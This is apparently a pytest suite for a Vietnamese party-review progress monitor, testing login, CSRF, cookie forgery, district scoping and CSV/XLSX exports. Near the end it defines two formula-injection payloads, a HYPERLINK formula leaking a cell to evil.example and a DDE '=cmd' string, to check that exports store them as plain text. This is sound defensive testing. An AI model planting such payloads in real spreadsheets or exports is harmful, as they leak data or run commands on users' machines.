"""The monitor's routes through Starlette's TestClient, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from starlette.routing import Route
from starlette.testclient import TestClient

from kiemdiem.web import create_app
from kiemdiem.web.server import SESSION_COOKIE
from tests.webdata import NOW, PASSWORD, build
from workflow.db import Database
from workflow.models import Unit

PAGES = ["/", "/late", "/late.csv", "/late.xlsx", "/units/GL-PC-CH-T2", "/plan", "/password"]


@pytest.fixture
def app(db):
    return build(db)


def client(app, https: bool = False, address: str = "192.0.2.10") -> TestClient:
    return TestClient(create_app(app, https=https), base_url="https://testserver" if https
                      else "http://testserver", follow_redirects=False, client=(address, 50000))


def csrf_of(c: TestClient, path: str = "/login") -> str:
    return re.search(r'name="csrf" value="([^"]+)"', c.get(path).text).group(1)


def login(c: TestClient, name: str, password: str = PASSWORD, next_url: str = "/"):
    return c.post("/login", data={"name": name, "password": password, "csrf": csrf_of(c),
                                  "next": next_url})


def logged_in(app, name: str) -> TestClient:
    c = client(app)
    assert login(c, name).status_code == 303
    return c


def test_every_route_but_login_and_healthz_needs_a_session(app):
    web = create_app(app)
    c = TestClient(web, follow_redirects=False)
    paths = {r.path for r in web.routes if isinstance(r, Route) and not r.path.startswith("/r/")}
    paths -= {"/units/{code:str}/duong-dan/thu-hoi"}  # tested in test_link_monitor
    assert paths == {"/", "/late", "/late.{fmt:str}", "/units/{code:str}", "/plan", "/healthz",
                     "/login", "/logout", "/password", "/progress", *(f"/units/{{code:str}}/{action}" for action in
                                                         ("advance", "extend", "reopen", "remind"))}
    for path in PAGES + ["/no-such-page"]:
        response = c.get(path)
        assert response.status_code == 303, path
        assert response.headers["location"].startswith("/login?next=/"), path
    assert c.post("/logout").status_code == 303
    for action in ("advance", "extend", "reopen", "remind"):
        assert c.post(f"/units/GL-TS-T1/{action}").headers["location"].startswith("/login")
    assert c.get("/login").status_code == 200
    health = c.get("/healthz")
    assert health.status_code == 200 and health.json() == {"status": "ok", "database": "ok",
                                                           "channels": {"file": {"state": "up"}}}


def test_login_lands_on_the_page_asked_for(app):
    c = client(app)
    first = c.get("/late?level=cell")
    assert first.headers["location"] == "/login?next=/late%3Flevel%3Dcell"
    response = login(c, "tinh", next_url="/late?level=cell")
    assert response.status_code == 303 and response.headers["location"] == "/late?level=cell"
    assert "Đơn vị chậm tiến độ" in c.get("/late?level=cell").text


def test_never_redirects_off_site_after_login(app):
    c = client(app)
    assert login(c, "tinh", next_url="//evil.example/x").headers["location"] == "/"


def test_overview_counts_late_units_and_draws_the_chart(app):
    html = logged_in(app, "tinh").get("/").text
    assert re.search(r'id="total-units">17<', html)
    # 10 cells owe something past due; the district, bases and province are not yet late
    assert re.search(r'id="late-units"><a[^>]*>10</a>', html)
    assert "<svg" in html and 'class="deadline"' in html and "Hôm nay" in html
    assert "Chuẩn bị báo cáo kiểm điểm: 4/17 (24%)" in html
    assert "21/11/2026 09:00" in html


def test_late_list_filters_sorts_and_exports(app):
    c = logged_in(app, "tinh")
    html = c.get("/late?level=cell&stage=cell_met").text
    assert re.search(r'id="late-count">10<', html) and "GL-TS-T1" in html
    assert "0912000015" in html  # the secretary's phone
    assert re.search(r'id="late-count">0<', c.get("/late?min_days=12").text)
    desc = re.findall(r'late-text">(\d+)</td>', c.get("/late").text)
    asc = re.findall(r'late-text">(\d+)</td>', c.get("/late?sort=days_asc").text)
    assert desc == sorted(desc, key=int, reverse=True) and asc == sorted(asc, key=int)
    assert asc[0] == "4" and desc[0] == "11"  # one row per unit, by its worst delay
    csv_text = c.get("/late.csv?stage=reports_prepared").content.decode("utf-8-sig")
    lines = csv_text.strip().splitlines()
    assert lines[0].startswith("Mã đơn vị,Tên đơn vị") and len(lines) == 1 + 7
    assert "GL-PC-CH-T1" not in csv_text  # reached two days late: no longer owed
    xlsx = c.get("/late.xlsx?level=cell")
    assert xlsx.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Mã đơn vị" and len(rows) == 1 + 27
    assert c.get("/late.pdf").status_code == 404


@pytest.mark.parametrize("query", ["level=nope", "stage=x", "min_days=-1", "min_days=abc",
                                   "sort=name", "year=abc"])
def test_bad_parameters_are_refused_in_vietnamese(app, query):
    response = logged_in(app, "tinh").get(f"/late?{query}")
    assert response.status_code == 400 and "Tham số" in response.text


def test_unit_page_shows_timeline_extension_audit_and_notifications(app):
    c = logged_in(app, "tinh")
    thcs = c.get("/units/GL-TS-THCS").text
    timeline = thcs.split('id="timeline"')[1].split("</table>")[0]
    assert "05/11/2026 09:00" in timeline and "đúng hạn" in timeline
    assert "chưa xong, trễ 4 ngày" in timeline  # the cell meeting, due at the end of 16/11
    assert "Chuyển giai đoạn" in thcs and "văn phòng" in thcs
    assert "gia hạn: Trạm y tế chống dịch" in c.get("/units/GL-TS-YT").text
    t2 = c.get("/units/GL-PC-CH-T2").text
    assert "Báo trễ hạn" in t2 and "chibo.hoihiep@phucat.example.vn" in t2 and "Đã gửi" in t2
    thpt2 = c.get("/units/GL-PC-THPT2").text
    assert "08/11/2026 09:00" in thpt2  # reported on paper: counted from when it happened
    assert c.get("/units/NOPE").status_code == 404


def test_plan_page_shows_deadlines_and_the_diagram(app):
    html = logged_in(app, "tinh").get("/plan").text
    assert "trước ngày 10/11/2026" in html and "hoàn thành ngày 16/11/2026" in html
    assert "stateDiagram-v2" in html and "Nhắc trước hạn: 7, 3, 1 ngày" in html


def test_a_district_user_sees_only_its_district(app):
    c = logged_in(app, "phucat")
    assert re.search(r'id="total-units">5<', c.get("/").text)
    for code in ("GL-TS-T1", "GL-TS", "GL", "GL-CQD-BTC"):
        response = c.get(f"/units/{code}")
        assert response.status_code == 404 and "phạm vi" in response.text, code
    assert c.get("/units/GL-PC-CH-T1").status_code == 200
    unit = c.get("/units/GL-PC-CH").text
    assert "Đảng bộ tỉnh Gia Lai" not in unit.split("<h1>")[1]  # no ancestor outside its scope
    for path in ("/late", "/late.csv", "/late.xlsx", "/"):
        body = c.get(path).content
        assert b"GL-TS" not in body and b"GL-CQD" not in body, path
    other = logged_in(app, "traso")
    for path in ("/units/GL-PC", "/units/GL-PC-CH-T2", "/units/GL-PC-THPT2"):
        assert other.get(path).status_code == 404


def test_a_tampered_session_cookie_is_rejected(app):
    c = logged_in(app, "phucat")
    cookie = c.cookies[SESSION_COOKIE]
    assert c.get("/").status_code == 200
    payload, rest = cookie.split(".", 1)
    body, signature = cookie.rsplit(".", 1)

    def flip(char: str) -> str:
        # the first character of a base64 run carries six real bits (a last one may be padding)
        return "A" if char != "A" else "B"

    forged_payload = flip(payload[0]) + payload[1:] + "." + rest
    forged_signature = body + "." + flip(signature[0]) + signature[1:]
    for value in (forged_payload, forged_signature, "garbage"):
        c.cookies.clear()
        c.cookies.set(SESSION_COOKIE, value)
        response = c.get("/")
        assert response.status_code == 303 and response.headers["location"].startswith("/login")


def test_a_cookie_signed_with_another_key_is_rejected(app, tmp_path):
    import base64
    import json

    from itsdangerous import TimestampSigner

    payload = base64.b64encode(json.dumps({"uid": 1}).encode())
    forged = TimestampSigner("not-the-key").sign(payload).decode()
    c = client(app)
    c.cookies.set(SESSION_COOKIE, forged)
    assert c.get("/").status_code == 303


def test_session_cookie_flags(app):
    response = login(client(app), "tinh")
    cookie = response.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=lax" in cookie and "secure" not in cookie
    secure = login(client(app, https=True), "tinh").headers["set-cookie"].lower()
    assert "secure" in secure and "httponly" in secure
    assert response.headers["x-frame-options"] == "DENY"


def test_login_refuses_a_missing_or_wrong_csrf_token(app):
    c = client(app)
    csrf_of(c)
    missing = c.post("/login", data={"name": "tinh", "password": PASSWORD})
    wrong = c.post("/login", data={"name": "tinh", "password": PASSWORD, "csrf": "forged"})
    for response in (missing, wrong):
        assert response.status_code == 403 and "không hợp lệ" in response.text
    fresh = client(app)  # a form posted with no session at all (cross-site)
    assert fresh.post("/login", data={"name": "tinh", "password": PASSWORD,
                                      "csrf": "x"}).status_code == 403
    assert c.get("/").status_code == 303


def test_logout_needs_the_token_and_ends_the_session(app):
    c = logged_in(app, "tinh")
    assert c.post("/logout", data={"csrf": "wrong"}).status_code == 403
    assert c.get("/").status_code == 200
    token = re.search(r'name="csrf" value="([^"]+)"', c.get("/").text).group(1)
    response = c.post("/logout", data={"csrf": token})
    assert response.status_code == 303 and response.headers["location"] == "/login"
    assert c.get("/").status_code == 303


def test_healthz_says_503_when_the_database_is_down(app, tmp_path):
    web = create_app(app)
    app.__dict__["db"] = Database(f"sqlite:///{tmp_path}/missing/dir/x.db")
    response = TestClient(web).get("/healthz")
    assert response.status_code == 503 and response.json()["status"] == "error"


def test_overview_late_counts_agree_with_the_late_list(app, db):
    from collections import defaultdict
    from datetime import date

    from sqlalchemy import update

    from kiemdiem.web import monitor
    from tests.webdata import local
    from workflow.clock import fixed_clock
    from workflow.extensions import DeadlineService
    from workflow.lookup import get_campaign
    from workflow.models import Unit

    DeadlineService(db, fixed_clock(local(15))).extend(  # 1 day late instead of 4: another band
        "GL-TS-T1", "cell_met", date(2026, 11, 19), reason="lũ", actor="văn phòng")
    with db.session(write=True) as s:  # a dissolved cell: counted, never late
        s.execute(update(Unit).where(Unit.code == "GL-TS-T2").values(active=False))
    with db.session() as s:
        campaign = get_campaign(s, None)
        for code in ("GL", "GL-PC", "GL-TS"):
            path = s.scalar(monitor.select(monitor.Unit.path).where(monitor.Unit.code == code))
            figures = monitor.overview(monitor.scan(s, campaign, path), NOW, ("cell", "base"))
            rows = monitor.late_rows(s, campaign, path, NOW, monitor.LateFilter(), limit=None)
            expected: dict = defaultdict(lambda: [0, 0, 0])
            for r in rows:
                expected[(r["level"], r["stage"])][(r["days_late"] >= 3) + (r["days_late"] >= 7)] += 1
            assert figures.late == dict(expected), code
            assert figures.late_units == len({r["unit"] for r in rows}), code
            scan = monitor.scan(s, campaign, path)
            for bulk in ("cell", "base"):  # the whole tree joins fewer units: same figures
                assert sorted(monitor.scan(s, campaign, path, bulk).groups) == sorted(scan.groups), code
            for f in (monitor.LateFilter(), monitor.LateFilter(level="cell", stage="cell_met"),
                      monitor.LateFilter(min_days=3), monitor.LateFilter(stage="forms_submitted", min_days=1)):
                assert monitor.late_count(scan, NOW, f) == len(
                    monitor.late_rows(s, campaign, path, NOW, f, limit=None)), (code, f)


def test_an_entry_committed_below_the_newest_id_still_changes_the_data_version(db):
    """On PostgreSQL a transaction may commit after one that took later ids: the cached scans
    must not keep showing the figures from before it."""
    from kiemdiem.web.monitor import data_version
    from workflow.models import AuditEntry

    build(db)

    def append(entry_id: int) -> None:
        with db.session(write=True) as session:
            session.add(AuditEntry(id=entry_id, at=NOW, actor="test", action="late_commit"))

    with db.session() as session:
        newest, _ = data_version(session)
    append(newest + 10)
    with db.session() as session:
        before = data_version(session)
    append(newest + 5)  # took its id first, committed last
    with db.session() as session:
        after = data_version(session)
    assert after[0] == before[0] == newest + 10 and after != before


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&B3,"Bấm để xem")'
HOSTILE_SECRETARY = "=cmd|' /C calc'!A0"


def test_late_exports_hold_data_never_formulas(app):
    """A name or secretary that starts like a formula is text in both exports; the header is
    the first row; the deadline is a date cell, days late a number, the phone keeps its 0; the
    file name carries the filters and the local date."""
    with app.db.session(write=True) as session:
        unit = session.execute(select(Unit).where(Unit.code == "GL-TS-T1")).scalar_one()
        unit.name, unit.secretary = HOSTILE_NAME, HOSTILE_SECRETARY
    c = logged_in(app, "tinh")
    xlsx = c.get("/late.xlsx?level=cell&stage=cell_met")
    assert 'filename="don-vi-cham-2026-GL-cell-cell_met-20261121.xlsx"' in xlsx.headers["content-disposition"]
    book = load_workbook(io.BytesIO(xlsx.content))
    sheet = book.active
    header, *rows = list(sheet.iter_rows())
    assert [c.value for c in header][:6] == ["Mã đơn vị", "Tên đơn vị", "Cấp", "Giai đoạn", "Hạn", "Ngày hạn"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:J{len(rows) + 1}"
    assert sheet.page_setup.orientation == "landscape" and sheet.sheet_properties.pageSetUpPr.fitToPage
    assert book.properties.title.startswith("Đơn vị chậm tiến độ")
    hostile = next(r for r in rows if r[0].value == "GL-TS-T1")
    assert hostile[1].value == HOSTILE_NAME and hostile[1].data_type == "s"
    assert hostile[7].value == HOSTILE_SECRETARY and hostile[7].data_type == "s"
    # the plan's words ("hoàn thành ngày 16/11"), and the day it names as a real date
    assert hostile[4].value == "hoàn thành ngày 16/11/2026"
    assert hostile[5].is_date and hostile[5].value.date().isoformat() == "2026-11-16"
    assert hostile[6].data_type == "n" and hostile[6].value >= 1
    assert hostile[8].value == "0912000015" and hostile[8].data_type == "s"
    assert not any(cell.data_type == "f" for row in rows for cell in row)

    text = c.get("/late.csv?level=cell&stage=cell_met").content.decode("utf-8-sig")
    header, *lines = list(csv.reader(io.StringIO(text)))
    assert header[0] == "Mã đơn vị"
    line = next(line for line in lines if line[0] == "GL-TS-T1")
    assert line[1] == "'" + HOSTILE_NAME and line[7] == "'" + HOSTILE_SECRETARY
    assert line[4] == "hoàn thành ngày 16/11/2026" and line[5] == "2026-11-16" and line[8] == "0912 000 015"
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)
